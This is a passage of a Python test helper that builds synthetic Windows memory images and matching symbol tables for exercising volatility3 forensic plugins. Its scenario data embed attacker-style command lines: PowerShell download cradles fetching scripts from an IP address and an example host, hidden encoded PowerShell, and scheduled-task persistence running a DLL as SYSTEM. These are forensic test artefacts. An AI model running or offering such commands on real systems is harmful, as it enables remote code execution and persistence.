"""Synthetic raw x64 Windows memory images that stock volatility3 reads through its normal automagic.

Real memory images are gigabytes and need Microsoft's symbols, so tests build small ones here: page
tables (one kernel DTB plus one per process), the EPROCESS list with PEBs and command lines, pool-tagged
process objects for psscan (one process is exited and unlinked, so only psscan finds it), tokens with
SIDs, and a registry hive list whose SOFTWARE hive holds a Task Scheduler TaskCache. Next to the image
goes a matching ISF symbol table, filed where volatility looks for it
(``symbols/windows/ntkrnlmp.pdb/<GUID>-<age>.json.xz``).

Everything comes from one layout table (the ``_types`` function): the ISF and the bytes are written
from the same offsets, so they cannot disagree. The fidelity target is "volatility-consistent": the
structures volatility3 walks are laid out as on Windows (Win10 19041 / Win7 SP1 x64 offsets where known),
nothing else exists (no threads, handles, VADs, modules or real PE images).

Tested with volatility3 == 2.28.2 (pinned: the Vista+ pool-type parity, the low-stub offsets and the
list of mandatory stub types live in volatility internals that may change between releases).

Usage: ``build_memory_image(out_dir, scenario="win10"|"win7", n_extra_processes=0, size_mb=None)``
returns ``{"image": Path, "symbols": Path, "layout": Path}``; ``python -m test_images.memimage OUT``.
"""

from __future__ import annotations

import base64
import hashlib
import json
import lzma
import random
import struct
import sys
import uuid
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timezone
from pathlib import Path

from test_images.taskcache_scenarios import task_guid
from test_images.windows_tree import ENCODED_CRADLE, ENCODED_PS_TASK, HOSTNAME

VOLATILITY_VERSION = "2.28.2"
PAGE = 0x1000
KERNEL_DTB = 0x1AA000  # inside the window volatility's DTB scan looks at first
DTB_SCAN_WINDOW = (0x150000, 0x2A0000)  # nothing else may live here (a lower self-map would win)
SELF_MAP_INDEX = 0x1ED
KUSER_KERNEL = 0xFFFFF78000000000
KUSER_USER = 0x7FFE0000
CANON = 0xFFFF000000000000


# ---------------------------------------------------------------------------------------------------
# The layout table: ISF types with their offsets (Win10 19041 x64; Win7 SP1 x64 where it differs)
# ---------------------------------------------------------------------------------------------------

def _b(name: str) -> dict:
    return {"kind": "base", "name": name}


def _p(sub: dict) -> dict:
    return {"kind": "pointer", "subtype": sub}


def _s(name: str) -> dict:
    return {"kind": "struct", "name": name}


def _u(name: str) -> dict:
    return {"kind": "union", "name": name}


def _a(count: int, sub: dict) -> dict:
    return {"kind": "array", "count": count, "subtype": sub}


U8, U16, U32, U64, I64 = _b("unsigned char"), _b("unsigned short"), _b("unsigned long"), _b("unsigned long long"), _b("long long")
VOIDP = _p(_b("void"))


def _types(win7: bool) -> dict:
    """Every user type the ISF declares: {name: (size, {field: (offset, type)}, kind)}."""
    t: dict[str, tuple] = {}

    def struct(name, size, fields=None, kind="struct"):
        t[name] = (size, fields or {}, kind)

    struct("_LIST_ENTRY", 0x10, {"Flink": (0, _p(_s("_LIST_ENTRY"))), "Blink": (8, _p(_s("_LIST_ENTRY")))})
    struct("_UNICODE_STRING", 0x10, {"Length": (0, U16), "MaximumLength": (2, U16), "Buffer": (8, _p(_b("wchar")))})
    struct("_LARGE_INTEGER", 8, {"LowPart": (0, U32), "HighPart": (4, _b("long")), "QuadPart": (0, I64)}, "union")
    struct("_QUAD", 8, {"UseThisFieldToCopy": (0, I64)})
    struct("_KPROCESS", 0x160 if win7 else 0x438, {"DirectoryTableBase": (0x28, U64), "ThreadListHead": (0x30, _s("_LIST_ENTRY"))})
    if win7:
        ep = {"UniqueProcessId": 0x180, "ActiveProcessLinks": 0x188, "CreateTime": 0x168, "ExitTime": 0x170,
              "ObjectTable": 0x200, "Token": 0x208, "InheritedFromUniqueProcessId": 0x290, "Session": 0x2D8,
              "ImageFileName": 0x2E0, "ThreadListHead": 0x308, "Wow64Process": 0x320, "ActiveThreads": 0x328,
              "Peb": 0x338, "SeAuditProcessCreationInfo": 0x390, "VadRoot": 0x448}
        eprocess_size = 0x4D0
    else:
        ep = {"UniqueProcessId": 0x440, "ActiveProcessLinks": 0x448, "CreateTime": 0x468, "Token": 0x4B8,
              "InheritedFromUniqueProcessId": 0x540, "Peb": 0x550, "Session": 0x558, "ObjectTable": 0x570,
              "Wow64Process": 0x580, "ImageFileName": 0x5A8, "SeAuditProcessCreationInfo": 0x5C0,
              "ThreadListHead": 0x5E0, "ActiveThreads": 0x5F0, "ExitTime": 0x600, "VadRoot": 0x7D8}
        eprocess_size = 0xA40
    ep_types = {"UniqueProcessId": VOIDP, "ActiveProcessLinks": _s("_LIST_ENTRY"), "CreateTime": _u("_LARGE_INTEGER"),
                "ExitTime": _u("_LARGE_INTEGER"), "ObjectTable": _p(_s("_HANDLE_TABLE")), "Token": _s("_EX_FAST_REF"),
                "InheritedFromUniqueProcessId": VOIDP, "Session": VOIDP, "ImageFileName": _a(15, U8),
                "ThreadListHead": _s("_LIST_ENTRY"), "Wow64Process": VOIDP if win7 else _p(_s("_EWOW64PROCESS")),
                "ActiveThreads": U32, "Peb": _p(_s("_PEB")),
                "SeAuditProcessCreationInfo": _s("_SE_AUDIT_PROCESS_CREATION_INFO"),
                "VadRoot": _s("_MM_AVL_TABLE") if win7 else _s("_RTL_AVL_TREE")}
    fields = {"Pcb": (0, _s("_KPROCESS"))}
    fields.update({name: (off, ep_types[name]) for name, off in ep.items()})
    struct("_EPROCESS", eprocess_size, fields)
    struct("_SE_AUDIT_PROCESS_CREATION_INFO", 8, {"ImageFileName": (0, _p(_s("_OBJECT_NAME_INFORMATION")))})
    struct("_OBJECT_NAME_INFORMATION", 0x10, {"Name": (0, _s("_UNICODE_STRING"))})
    struct("_PEB", 0x380 if win7 else 0x7C8, {"InheritedAddressSpace": (0, U8), "ImageBaseAddress": (0x10, VOIDP),
                                                "Ldr": (0x18, _p(_s("_PEB_LDR_DATA"))),
                                                "ProcessParameters": (0x20, _p(_s("_RTL_USER_PROCESS_PARAMETERS")))})
    struct("_PEB_LDR_DATA", 0x58, {"Length": (0, U32), "InLoadOrderModuleList": (0x10, _s("_LIST_ENTRY")),
                                   "InMemoryOrderModuleList": (0x20, _s("_LIST_ENTRY")),
                                   "InInitializationOrderModuleList": (0x30, _s("_LIST_ENTRY"))})
    struct("_RTL_USER_PROCESS_PARAMETERS", 0x400 if win7 else 0x440,
           {"MaximumLength": (0, U32), "Length": (4, U32), "Flags": (8, U32), "DllPath": (0x50, _s("_UNICODE_STRING")),
            "ImagePathName": (0x60, _s("_UNICODE_STRING")), "CommandLine": (0x70, _s("_UNICODE_STRING")),
            "Environment": (0x80, VOIDP), "WindowTitle": (0xB0, _s("_UNICODE_STRING")), "EnvironmentSize": (0x3F0, U64)})
    struct("_MM_SESSION_SPACE", 0x100, {"ReferenceCount": (0, _b("long")), "SessionId": (8, U32)})
    if win7:
        struct("_HANDLE_TABLE", 0x68, {"TableCode": (0, U64), "UniqueProcessId": (0x10, VOIDP), "HandleCount": (0x58, U32)})
        # VAD tree (svcscan scans services.exe's VADs for the SCM's service records)
        struct("_MM_AVL_TABLE", 0x40, {"BalancedRoot": (0, _s("_MMADDRESS_NODE")), "NumberGenericTableElements": (0x18, U64)})
        node = {"u1": (0, U64), "LeftChild": (8, _p(_s("_MMADDRESS_NODE"))), "RightChild": (0x10, _p(_s("_MMADDRESS_NODE"))),
                "StartingVpn": (0x18, U64), "EndingVpn": (0x20, U64)}
        struct("_MMADDRESS_NODE", 0x28, node)
        struct("_MMVAD_SHORT", 0x40, node)
    else:
        # no HandleCount member, as on real Win10: volatility prints "-" for Handles
        struct("_HANDLE_TABLE", 0x80, {"NextHandleNeedingPool": (0, U32), "TableCode": (8, U64)})
        struct("_RTL_AVL_TREE", 8, {"Root": (0, _p(_s("_RTL_BALANCED_NODE")))})
        struct("_RTL_BALANCED_NODE", 0x18, {"Left": (0, _p(_s("_RTL_BALANCED_NODE"))), "Right": (8, _p(_s("_RTL_BALANCED_NODE"))),
                                            "ParentValue": (0x10, U64)})
        struct("_MMVAD_SHORT", 0x40, {"VadNode": (0, _s("_RTL_BALANCED_NODE")), "StartingVpn": (0x18, U32),
                                      "EndingVpn": (0x1C, U32), "StartingVpnHigh": (0x20, U8), "EndingVpnHigh": (0x21, U8)})
        struct("_EWOW64PROCESS", 0x10, {"Peb": (0, VOIDP), "Machine": (8, U16)})
    struct("_EX_FAST_REF", 8, {"Object": (0, VOIDP), "Value": (0, U64)}, "union")
    struct("_TOKEN", 0x310 if win7 else 0x498,
           {"Privileges": (0x40, _s("_SEP_TOKEN_PRIVILEGES")), "UserAndGroupCount": (0x78 if win7 else 0x7C, U32),
            "UserAndGroups": (0x90 if win7 else 0x98, _p(_s("_SID_AND_ATTRIBUTES")))})
    struct("_SEP_TOKEN_PRIVILEGES", 0x18, {"Present": (0, U64), "Enabled": (8, U64), "EnabledByDefault": (0x10, U64)})
    struct("_SID_AND_ATTRIBUTES", 0x10, {"Sid": (0, VOIDP), "Attributes": (8, U32)})
    struct("_SID_IDENTIFIER_AUTHORITY", 6, {"Value": (0, _a(6, U8))})
    struct("_SID", 0xC, {"Revision": (0, U8), "SubAuthorityCount": (1, U8),
                         "IdentifierAuthority": (2, _s("_SID_IDENTIFIER_AUTHORITY")), "SubAuthority": (8, _a(1, U32))})
    struct("_KUSER_SHARED_DATA", 0x720, {"NtMajorVersion": (0x26C, U32), "NtMinorVersion": (0x270, U32)})
    # pool and object manager (psscan)
    struct("_POOL_HEADER", 0x10, {"PreviousSize": (0, U8), "PoolIndex": (1, U8), "BlockSize": (2, U8),
                                  "PoolType": (3, U8), "PoolTag": (4, U32), "ProcessBilled": (8, _p(_s("_EPROCESS")))})
    struct("_POOL_TRACKER_BIG_PAGES", 0x18, {"Va": (0, U64), "Key": (8, U32), "PoolType": (0xC, U32), "NumberOfBytes": (0x10, U64)})
    struct("_OBJECT_HEADER", 0x38, {"PointerCount": (0, I64), "HandleCount": (8, I64), "Lock": (0x10, VOIDP),
                                    "TypeIndex": (0x18, U8), "TraceFlags": (0x19, U8), "InfoMask": (0x1A, U8),
                                    "Flags": (0x1B, U8), "ObjectCreateInfo": (0x20, VOIDP),
                                    "SecurityDescriptor": (0x28, VOIDP), "Body": (0x30, _s("_QUAD"))})
    struct("_OBJECT_HEADER_CREATOR_INFO", 0x20, {"TypeList": (0, _s("_LIST_ENTRY")), "CreatorUniqueProcess": (0x10, VOIDP)})
    struct("_OBJECT_HEADER_NAME_INFO", 0x20, {"Directory": (0, VOIDP), "Name": (8, _s("_UNICODE_STRING"))})
    struct("_OBJECT_HEADER_HANDLE_INFO", 0x10, {"HandleCountDataBase": (0, VOIDP)})
    struct("_OBJECT_HEADER_QUOTA_INFO", 0x20, {"PagedPoolCharge": (0, U32), "NonPagedPoolCharge": (4, U32)})
    struct("_OBJECT_HEADER_PROCESS_INFO", 0x10, {"ExclusiveProcess": (0, VOIDP)})
    if not win7:
        struct("_OBJECT_HEADER_AUDIT_INFO", 0x10, {"SecurityDescriptor": (0, VOIDP)})
        struct("_OBJECT_HEADER_EXTENDED_INFO", 0x10, {"Footer": (0, VOIDP)})
        struct("_OBJECT_HEADER_HANDLE_REVOCATION_INFO", 0x20, {"ListEntry": (0, _s("_LIST_ENTRY"))})
        struct("_OBJECT_HEADER_PADDING_INFO", 4, {"PaddingAmount": (0, U32)})
    struct("_OBJECT_TYPE", 0xD0 if win7 else 0xD8, {"TypeList": (0, _s("_LIST_ENTRY")), "Name": (0x10, _s("_UNICODE_STRING")),
                                                   "Index": (0x28, U8), "TotalNumberOfObjects": (0x2C, U32)})
    struct("_KTHREAD", 0x360 if win7 else 0x5F0, {"Process": (0x210 if win7 else 0x220, _p(_s("_KPROCESS")))})
    struct("_ETHREAD", 0x4A8 if win7 else 0x898, {"Tcb": (0, _s("_KTHREAD")), "ThreadListEntry": (0x428 if win7 else 0x6B8, _s("_LIST_ENTRY"))})
    # registry: hive list, hive map, and the cells (the cells are the regf file format)
    struct("_HBASE_BLOCK", 0x1000, {"Signature": (0, U32), "Sequence1": (4, U32), "Sequence2": (8, U32),
                                    "TimeStamp": (0xC, _u("_LARGE_INTEGER")), "Major": (0x14, U32), "Minor": (0x18, U32),
                                    "Type": (0x1C, U32), "Format": (0x20, U32), "RootCell": (0x24, U32),
                                    "Length": (0x28, U32), "Cluster": (0x2C, U32), "FileName": (0x30, _a(64, U8)),
                                    "CheckSum": (0x1FC, U32)})
    if win7:
        struct("_HMAP_ENTRY", 0x20, {"BlockAddress": (0, U64), "BinAddress": (8, U64), "CmView": (0x10, VOIDP), "MemAlloc": (0x18, U32)})
    else:
        struct("_HMAP_ENTRY", 0x18, {"BlockOffset": (0, U64), "PermanentBinAddress": (8, U64), "MemAlloc": (0x10, U32)})
    entry_size = t["_HMAP_ENTRY"][0]
    struct("_HMAP_TABLE", 512 * entry_size, {"Table": (0, _a(512, _s("_HMAP_ENTRY")))})
    struct("_HMAP_DIRECTORY", 0x2000, {"Directory": (0, _a(1024, _p(_s("_HMAP_TABLE"))))})
    struct("_DUAL", 0x278, {"Length": (0, U32), "Map": (8, _p(_s("_HMAP_DIRECTORY"))), "SmallDir": (0x10, _p(_s("_HMAP_TABLE"))), "Guard": (0x18, U32)})
    struct("_HHIVE", 0x600, {"Signature": (0, U32), "BaseBlock": (0x40 if not win7 else 0x58, _p(_s("_HBASE_BLOCK"))),
                             "Version": (0x8C, U32), "Storage": (0xB8, _a(2, _s("_DUAL")))})
    struct("_CMHIVE", 0xBE0 if win7 else 0x1000,
           {"Hive": (0, _s("_HHIVE")), "FileHandles": (0x600, _a(6, VOIDP)), "HiveList": (0x640 if not win7 else 0x758, _s("_LIST_ENTRY")),
            "FileFullPath": (0x730 if not win7 else 0x700, _s("_UNICODE_STRING")),
            "FileUserName": (0x740 if not win7 else 0x710, _s("_UNICODE_STRING")),
            "HiveRootPath": (0x750 if not win7 else 0x720, _s("_UNICODE_STRING"))})
    struct("_CELL_DATA", 0x50, {"u": (0, _u("_CELL_DATA_U"))})
    struct("_CELL_DATA_U", 0x50, {"KeyNode": (0, _s("_CM_KEY_NODE")), "KeyValue": (0, _s("_CM_KEY_VALUE")),
                                  "KeySecurity": (0, _s("_CM_KEY_SECURITY")), "KeyIndex": (0, _s("_CM_KEY_INDEX")),
                                  "ValueData": (0, _s("_CM_BIG_DATA")), "KeyList": (0, _a(1, U32)),
                                  "KeyString": (0, _a(1, _b("wchar")))}, "union")
    struct("_CM_KEY_NODE", 0x50, {"Signature": (0, U16), "Flags": (2, U16), "LastWriteTime": (4, _u("_LARGE_INTEGER")),
                                  "AccessBits": (0xC, U8), "Parent": (0x10, U32), "SubKeyCounts": (0x14, _a(2, U32)),
                                  "SubKeyLists": (0x1C, _a(2, U32)), "ValueList": (0x24, _s("_CHILD_LIST")),
                                  "Security": (0x2C, U32), "Class": (0x30, U32), "MaxNameLen": (0x34, U32),
                                  "MaxClassLen": (0x38, U32), "MaxValueNameLen": (0x3C, U32), "MaxValueDataLen": (0x40, U32),
                                  "WorkVar": (0x44, U32), "NameLength": (0x48, U16), "ClassLength": (0x4A, U16),
                                  "Name": (0x4C, _a(1, _b("wchar")))})
    struct("_CHILD_LIST", 8, {"Count": (0, U32), "List": (4, U32)})
    struct("_CM_KEY_VALUE", 0x18, {"Signature": (0, U16), "NameLength": (2, U16), "DataLength": (4, U32), "Data": (8, U32),
                                   "Type": (0xC, U32), "Flags": (0x10, U16), "Spare": (0x12, U16), "Name": (0x14, _a(1, _b("wchar")))})
    struct("_CM_KEY_INDEX", 8, {"Signature": (0, U16), "Count": (2, U16), "List": (4, _a(1, U32))})
    struct("_CM_KEY_SECURITY", 0x28, {"Signature": (0, U16), "Reserved": (2, U16), "Flink": (4, U32), "Blink": (8, U32),
                                      "ReferenceCount": (0xC, U32), "DescriptorLength": (0x10, U32), "Descriptor": (0x14, _a(20, U8))})
    struct("_CM_BIG_DATA", 8, {"Signature": (0, U16), "Count": (2, U16), "List": (4, U32)})
    # types volatility's kernel symbol class insists on (name and size are enough)
    for stub, size in {"_ERESOURCE": 0x68, "_FILE_OBJECT": 0xD8, "_DEVICE_OBJECT": 0x150, "_CM_KEY_BODY": 0x48,
                       "_MMVAD_SHORT": 0x40, "_MMVAD": 0x88, "_KSYSTEM_TIME": 0xC, "_KMUTANT": 0x38,
                       "_DRIVER_OBJECT": 0x150, "_OBJECT_SYMBOLIC_LINK": 0x38, "_CONTROL_AREA": 0x80,
                       "_SHARED_CACHE_MAP": 0x230, "_VACB": 0x28, "_IMAGE_DOS_HEADER": 0x40, "_KTIMER": 0x40,
                       "_LDR_DATA_TABLE_ENTRY": 0x120}.items():
        t.setdefault(stub, (size, {}, "struct"))
    return t


class Layout:
    """Field offsets for one scenario, read from the same table the ISF is written from."""

    def __init__(self, win7: bool):
        self.types = _types(win7)

    def off(self, type_name: str, field_name: str) -> int:
        return self.types[type_name][1][field_name][0]

    def size(self, type_name: str) -> int:
        return self.types[type_name][0]


_BASE_TYPES = {
    "void": {"kind": "void", "size": 0, "signed": True, "endian": "little"},
    "char": {"kind": "char", "size": 1, "signed": True, "endian": "little"},
    "unsigned char": {"kind": "char", "size": 1, "signed": False, "endian": "little"},
    "wchar": {"kind": "int", "size": 2, "signed": False, "endian": "little"},
    "short": {"kind": "int", "size": 2, "signed": True, "endian": "little"},
    "unsigned short": {"kind": "int", "size": 2, "signed": False, "endian": "little"},
    "long": {"kind": "int", "size": 4, "signed": True, "endian": "little"},
    "unsigned long": {"kind": "int", "size": 4, "signed": False, "endian": "little"},
    "int": {"kind": "int", "size": 4, "signed": True, "endian": "little"},
    "unsigned int": {"kind": "int", "size": 4, "signed": False, "endian": "little"},
    "long long": {"kind": "int", "size": 8, "signed": True, "endian": "little"},
    "unsigned long long": {"kind": "int", "size": 8, "signed": False, "endian": "little"},
    "bool": {"kind": "bool", "size": 1, "signed": False, "endian": "little"},
    "pointer": {"kind": "int", "size": 8, "signed": False, "endian": "little"},
}


def _isf(layout: Layout, scenario: "Scenario", symbols: dict[str, int]) -> dict:
    user_types = {}
    for name, (size, fields, kind) in sorted(layout.types.items()):
        user_types[name] = {"kind": kind, "size": size,
                            "fields": {f: {"offset": off, "type": typ} for f, (off, typ) in sorted(fields.items())}}
    return {
        "metadata": {
            "format": "6.2.0",
            "producer": {"name": "triage test_images/memimage.py", "version": "1"},
            "windows": {
                "pdb": {"GUID": scenario.pdb_guid.hex.upper(), "age": scenario.pdb_age, "database": "ntkrnlmp.pdb", "machine_type": 34404},
                "pe": dict(zip(("major", "minor", "revision", "build"), scenario.pe_version)),
            },
        },
        "base_types": _BASE_TYPES,
        "user_types": user_types,
        "enums": {},
        "symbols": {name: {"address": rva} for name, rva in sorted(symbols.items())},
    }


# ---------------------------------------------------------------------------------------------------
# Physical memory and page tables
# ---------------------------------------------------------------------------------------------------

class Memory:
    """Physical memory with a bump page allocator and 4-level x64 page tables (4 KiB pages only)."""

    def __init__(self):
        self.data = bytearray(0x400000)
        self._next_low = 0x10000
        self._next_high = DTB_SCAN_WINDOW[1]

    def alloc_page(self) -> int:
        if self._next_low < DTB_SCAN_WINDOW[0]:
            pa, self._next_low = self._next_low, self._next_low + PAGE
        else:
            pa, self._next_high = self._next_high, self._next_high + PAGE
        self._ensure(pa + PAGE)
        return pa

    @property
    def used(self) -> int:
        return self._next_high

    def _ensure(self, end: int) -> None:
        if end > len(self.data):
            self.data.extend(bytes(max(end - len(self.data), 0x400000)))

    def put(self, pa: int, blob: bytes) -> None:
        self._ensure(pa + len(blob))
        self.data[pa:pa + len(blob)] = blob

    def u64(self, pa: int) -> int:
        return struct.unpack_from("<Q", self.data, pa)[0]

    def map(self, dtb: int, va: int, pa: int, user: bool) -> None:
        flags = 0x67 if user else 0x63
        table = dtb
        for shift in (39, 30, 21):
            slot = table + ((va >> shift) & 0x1FF) * 8
            entry = self.u64(slot)
            if not entry & 1:
                entry = self.alloc_page() | flags
                self.put(slot, struct.pack("<Q", entry))
            table = entry & 0x000FFFFFFFFFF000
        self.put(table + ((va >> 12) & 0x1FF) * 8, struct.pack("<Q", pa | flags))

    def translate(self, dtb: int, va: int) -> int | None:
        table = dtb
        for shift in (39, 30, 21, 12):
            entry = self.u64(table + ((va >> shift) & 0x1FF) * 8)
            if not entry & 1:
                return None
            table = entry & 0x000FFFFFFFFFF000
        return table | (va & 0xFFF)

    def write(self, dtb: int, va: int, blob: bytes, user: bool = False) -> None:
        """Write at a virtual address, backing unmapped pages with fresh physical pages."""
        pos = 0
        while pos < len(blob):
            cur = va + pos
            pa = self.translate(dtb, cur)
            if pa is None:
                page = self.alloc_page()
                self.map(dtb, cur & ~0xFFF, page, user)
                pa = page | (cur & 0xFFF)
            chunk = min(len(blob) - pos, PAGE - (cur & 0xFFF))
            self.put(pa, blob[pos:pos + chunk])
            pos += chunk


class Bump:
    """Virtual bump allocator for one region (pool, hive bins, user heap)."""

    def __init__(self, start: int, align: int = 0x10):
        self.next = start
        self.align = align

    def take(self, size: int, align: int | None = None) -> int:
        align = align or self.align
        self.next = (self.next + align - 1) & ~(align - 1)
        va, self.next = self.next, self.next + size
        return va


def _canon(va: int) -> int:
    return va | CANON if va & (1 << 47) else va


def _utf16z(text: str) -> bytes:
    return text.encode("utf-16-le") + b"\0\0"


def _filetime(iso: str) -> int:
    dt = datetime.fromisoformat(iso.replace("Z", "+00:00")).astimezone(timezone.utc)
    return int((dt - datetime(1601, 1, 1, tzinfo=timezone.utc)).total_seconds() * 10_000_000)


def _sid_bytes(sid: str) -> bytes:
    parts = sid.split("-")
    subs = [int(x) for x in parts[3:]]
    return struct.pack("<BB", int(parts[1]), len(subs)) + int(parts[2]).to_bytes(6, "big") + b"".join(struct.pack("<I", s) for s in subs)


# ---------------------------------------------------------------------------------------------------
# Scenarios: processes and the TaskCache they belong to
# ---------------------------------------------------------------------------------------------------

SYSTEM_SID = "S-1-5-18"
USER_SID = "S-1-5-21-2146493349-1640112132-851775531-1001"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')"
CRADLE_B64 = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
# Windows 10: the disk image's (test_images/windows_tree.py) encoded-PowerShell task running under taskhostw.exe,
# whose argument is that task's GUID; the in-memory TaskCache does not hold it (its cells were paged out), so on
# its own the memory image shows a running task no definition names.
DISK_TASK_GUID = task_guid(ENCODED_PS_TASK)
DISK_CRADLE_COMMAND = f'"{POWERSHELL}" -NoProfile -WindowStyle Hidden -EncodedCommand {ENCODED_CRADLE}'
REGISTER_COMMAND = (f'"{POWERSHELL}" -NoProfile -Command "Register-ScheduledTask -TaskName EdgeSync -TaskPath \\Microsoft\\ '
                    '-Action (New-ScheduledTaskAction -Execute C:\\Users\\Public\\edge.exe -Argument --sync) '
                    '-Trigger (New-ScheduledTaskTrigger -AtLogOn) -User SYSTEM"')
# Windows 7: a download cradle run by taskeng.exe for a task the in-memory TaskCache does not hold.
WIN7_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://flash-update.example.net/s.ps1')"
WIN7_CRADLE_COMMAND = ("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
                       + base64.b64encode(WIN7_CRADLE.encode("utf-16-le")).decode())
WIN7_HOSTNAME = "WIN7-PC"


@dataclass
class Proc:
    pid: int
    ppid: int
    name: str
    create: str
    cmdline: str | None = None  # None: no PEB (System, Registry)
    image: str | None = None
    session: int | None = 0  # None: no session (System, Registry, smss)
    sid: str = SYSTEM_SID
    threads: int = 4
    exit: str | None = None
    linked: bool = True  # in the active process list


@dataclass
class Task:
    path: str
    guid: str
    actions: list[tuple]  # ("exec", command, arguments, workdir) or ("com", clsid, data)
    principal: str
    user_sid: str
    registered: str
    last_run: str | None = None
    trigger: str = "boot"  # boot | logon
    sd: bool = True
    index: int = 3
    author: str = "Microsoft Corporation"
    hidden: bool = False


@dataclass
class Scenario:
    name: str
    win7: bool
    pdb_guid: uuid.UUID
    pdb_age: int
    pe_version: tuple
    kernel_base: int
    pool_base: int
    boot: str
    processes: list[Proc]
    tasks: list[Task]
    hive_user_space: bool  # Win10: hive bins live in the Registry process
    hostname: str = ""  # SYSTEM ...\Control\ComputerName\ComputerName


def _win10() -> Scenario:
    sv = r"C:\Windows\system32\svchost.exe"
    procs = [
        Proc(4, 0, "System", "2024-05-14T08:11:44Z", session=None, threads=142),
        Proc(92, 4, "Registry", "2024-05-14T08:11:40Z", session=None),
        Proc(340, 4, "smss.exe", "2024-05-14T08:11:53Z", r"\SystemRoot\System32\smss.exe", r"C:\Windows\System32\smss.exe", session=None, threads=2),
        Proc(448, 440, "csrss.exe", "2024-05-14T08:11:56Z", r"%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16", r"C:\Windows\system32\csrss.exe", threads=10),
        Proc(524, 440, "wininit.exe", "2024-05-14T08:11:56Z", "wininit.exe", r"C:\Windows\system32\wininit.exe", threads=1),
        Proc(668, 524, "services.exe", "2024-05-14T08:11:57Z", r"C:\Windows\system32\services.exe", r"C:\Windows\system32\services.exe", threads=7),
        Proc(684, 524, "lsass.exe", "2024-05-14T08:11:57Z", r"C:\Windows\system32\lsass.exe", r"C:\Windows\system32\lsass.exe", threads=9),
        Proc(800, 668, "svchost.exe", "2024-05-14T08:11:58Z", sv + " -k DcomLaunch -p", sv, threads=20),
        Proc(1236, 668, "svchost.exe", "2024-05-14T08:12:01Z", sv + " -k netsvcs -p -s Schedule", sv, threads=18),
        Proc(1408, 668, "svchost.exe", "2024-05-14T08:12:02Z", sv + " -k LocalServiceNetworkRestricted -p -s EventLog", sv, sid="S-1-5-19", threads=11),
        Proc(2980, 2944, "explorer.exe", "2024-05-14T08:14:10Z", r"C:\Windows\Explorer.EXE", r"C:\Windows\Explorer.EXE", session=1, sid=USER_SID, threads=60),
        Proc(4312, 1236, "taskhostw.exe", "2024-05-14T09:11:57Z", "taskhostw.exe {0358B920-0AC7-461F-98F4-58E32CD89148}",
             r"C:\Windows\system32\taskhostw.exe", session=1, sid=USER_SID, threads=9),
        Proc(5120, 1236, "powershell.exe", "2024-05-14T09:12:03Z", f"{POWERSHELL} -nop -w hidden -enc {CRADLE_B64}", POWERSHELL, threads=12),
        Proc(5128, 5120, "conhost.exe", "2024-05-14T09:12:03Z", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", r"C:\Windows\system32\conhost.exe", threads=3),
        Proc(6044, 5120, "schtasks.exe", "2024-05-14T09:12:12Z",
             r'"C:\Windows\system32\schtasks.exe" /create /tn "\Microsoft\Windows\Maintenance\SyncData" /tr "rundll32.exe C:\Users\Public\Libraries\x.dll,StartW" /sc minute /mo 30 /ru SYSTEM /f',
             r"C:\Windows\system32\schtasks.exe", threads=0, exit="2024-05-14T09:12:13Z", linked=False),
        Proc(6212, 5120, "rundll32.exe", "2024-05-14T09:12:20Z", r"rundll32.exe C:\Users\Public\Libraries\x.dll,StartW",
             r"C:\Windows\system32\rundll32.exe", threads=5),
        Proc(7016, 1236, "svcupd.exe", "2024-05-14T09:30:00Z", r'"C:\ProgramData\SysUpdate\svcupd.exe" --silent',
             r"C:\ProgramData\SysUpdate\svcupd.exe", threads=3),
        Proc(7400, 1236, "taskhostw.exe", "2024-05-14T09:40:00Z", f"taskhostw.exe {DISK_TASK_GUID}",
             r"C:\Windows\system32\taskhostw.exe", session=1, sid=USER_SID, threads=6),
        Proc(7412, 7400, "powershell.exe", "2024-05-14T09:40:01Z", DISK_CRADLE_COMMAND, POWERSHELL, session=1, sid=USER_SID,
             threads=11),
        # a user's PowerShell that registered a task and exited: only pool scanning still finds it
        Proc(7508, 2980, "powershell.exe", "2024-05-14T09:45:00Z", REGISTER_COMMAND, POWERSHELL, session=1, sid=USER_SID,
             threads=0, exit="2024-05-14T09:45:02Z", linked=False),
    ]
    tasks = [
        Task(r"\Microsoft\Windows\Wininet\CacheTask", "{5D8E0B6F-4C2A-4E1B-9F1D-3A6C2B7E8F90}",
             [("com", "{0358B920-0AC7-461F-98F4-58E32CD89148}", "")], "Users", "S-1-5-32-545",
             "2019-12-07T09:10:00Z", "2024-05-14T09:11:57Z", trigger="logon", hidden=True),
        Task(r"\WinUpdateCheck", "{9B1E4C07-2D3F-4A58-B6C9-0E1F2A3B4C5D}",
             [("exec", POWERSHELL, f"-nop -w hidden -enc {CRADLE_B64}", "")], "LocalSystem", SYSTEM_SID,
             "2024-05-14T09:05:41Z", "2024-05-14T09:12:03Z", sd=False, author=r"DESKTOP-PLUIHNI\thin0"),
        Task(r"\Microsoft\Windows\Defrag\ScheduledDefrag", "{1E2F3A4B-5C6D-4E7F-8091-A2B3C4D5E6F7}",
             [("exec", r"%windir%\system32\defrag.exe", "-c -h -o -$", "")], "LocalSystem", SYSTEM_SID,
             "2019-12-07T09:10:00Z", "2024-05-10T03:00:00Z"),
        Task(r"\Microsoft\Windows\Maintenance\SyncData", "{C0FFEE00-1234-4ABC-8DEF-0123456789AB}",
             [("exec", "rundll32.exe", r"C:\Users\Public\Libraries\x.dll,StartW", "")], "LocalSystem", SYSTEM_SID,
             "2024-05-14T09:12:13Z", None, index=0, author=r"NT AUTHORITY\SYSTEM"),
    ]
    return Scenario("win10", False, uuid.UUID("1f4b5a42-7c2d-4e0b-9a3f-5c7e2b1d0a11"), 1, (10, 0, 19041, 1),
                    0xFFFFF8017A200000, 0xFFFFC30A1B000000, "2024-05-14T08:11:40Z", procs, tasks, True, HOSTNAME)


def _win7() -> Scenario:
    sv = r"C:\Windows\system32\svchost.exe"
    procs = [
        Proc(4, 0, "System", "2019-03-05T07:58:02Z", session=None, threads=95),
